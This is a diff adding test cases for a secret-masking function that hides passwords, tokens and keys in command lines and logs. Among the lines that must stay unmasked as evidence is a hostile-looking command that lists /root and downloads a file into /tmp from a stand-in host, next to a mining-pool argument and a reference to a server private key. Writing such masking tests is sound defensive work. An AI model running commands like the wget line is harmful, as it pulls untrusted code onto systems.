@@ -39,6 +39,16 @@ describe('secrets that are gone', () => {
     `pass: '${secret}'`,
     `MYSQL_PWD=${secret}`,
     `session_id=${secret}`,
+    `{"password": "${secret} it's ${secret}"}`,
+    `{"password": "quoted \\" ${secret}"}`,
+    `https://user:p@${secret}@192.0.2.1/`,
+    `password=Ã\xa0${secret}`,
+    `plink -pw ${secret} host`,
+    `redis-cli -a ${secret} ping`,
+    `ldapsearch -x -w ${secret}`,
+    `unzip -P${secret} a.zip`,
+    `smbclient -U user%${secret} //192.0.2.1/c`,
+    `openssl enc -aes256 -k ${secret}`,
   ];
   for (const line of lines) {
     test(JSON.stringify(line.slice(0, 60)), () => {
@@ -84,6 +94,9 @@ describe('evidence that stays', () => {
     'http://192.0.2.1:8080/a:b@c',
     '-----BEGIN CERTIFICATE----- abc',
     '-p c=XMR,d=1000',
+    'openssl s_client -key /etc/ssl/server.key',
+    'ls -a /root; wget -P /tmp http://192.0.2.1/a',
+    'Xorg -auth /run/x',
   ];
   for (const line of lines) {
     test(JSON.stringify(line.slice(0, 60)), () => expect(maskSecrets(line)).toBe(line));
@@ -118,6 +131,32 @@ describe('forms', () => {
     );
   });
 
+  test('an argument that sets a secret is masked to its end', () => {
+    const argv = [
+      '--db-password=two words',
+      "PGPASSWORD=it's,mine;all)of&it",
+      '--password=schl\u00e0ssel',
+      'X-Api-Key: a b',
+      '-Dspring.password=a,b',
+    ];
+    const names = ['--db-password=', 'PGPASSWORD=', '--password=', 'X-Api-Key: ', '-Dspring.password='];
+    expect(maskArguments(argv.map(printableText))).toEqual(names.map((name) => printableText(`${name}***`)));
+  });
+
+  test('of a line for a shell only the secret is masked', () => {
+    const argv = ['sh', '-c', 'TOKEN=abc123; redis-cli -a hunter2; ls -a /tmp'].map(printableText);
+    expect(maskArguments(argv)).toEqual(
+      ['sh', '-c', 'TOKEN=***; redis-cli -a ***; ls -a /tmp'].map(printableText),
+    );
+  });
+
+  test('a tool and its option are known as separate arguments too', () => {
+    const argv = ['sudo', '/usr/bin/redis-cli', '-a', 'hunter2', 'smbclient', '-U', 'me%hunter2'].map(
+      printableText,
+    );
+    expect(String(maskArguments(argv))).not.toContain('hunter2');
+  });
+
   test('a pool password x, a path and a port stay', () => {
     const argv = ['mkdir', '-p', '/tmp/a', '-p', 'x', '-p', '22'].map(printableText);
     expect(maskArguments(argv)).toEqual(argv);
@@ -145,6 +184,9 @@ describe('forms', () => {
       '"\\',
       'Bearer ',
       'key:"',
+      'key="\\',
+      'redis-cli -a ',
+      '-pw=',
     ]) {
       expect(maskSecrets(piece.repeat(200_000 / piece.length)).length).toBeGreaterThan(0);
     }
